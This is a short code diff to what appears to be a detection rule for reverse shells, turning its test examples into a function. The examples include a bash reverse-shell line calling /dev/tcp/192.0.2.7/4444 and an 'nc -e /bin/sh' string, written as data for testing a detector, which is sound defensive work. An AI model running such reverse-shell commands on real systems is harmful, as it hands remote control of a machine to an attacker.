@@ -29,11 +29,11 @@ export const reverseShell: ActivationRule = {
       };
   },
 
-  examples: {
+  examples: () => ({
     fires: [timed("ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'")],
     quiet: [
       timed("ExecStart=/usr/bin/logger 'nc -e /bin/sh 192.0.2.1 4444'"),
       timed("ExecStart=/usr/bin/timeout 1 bash -c '</dev/tcp/192.0.2.1/22'"),
     ],
-  },
+  }),
 };
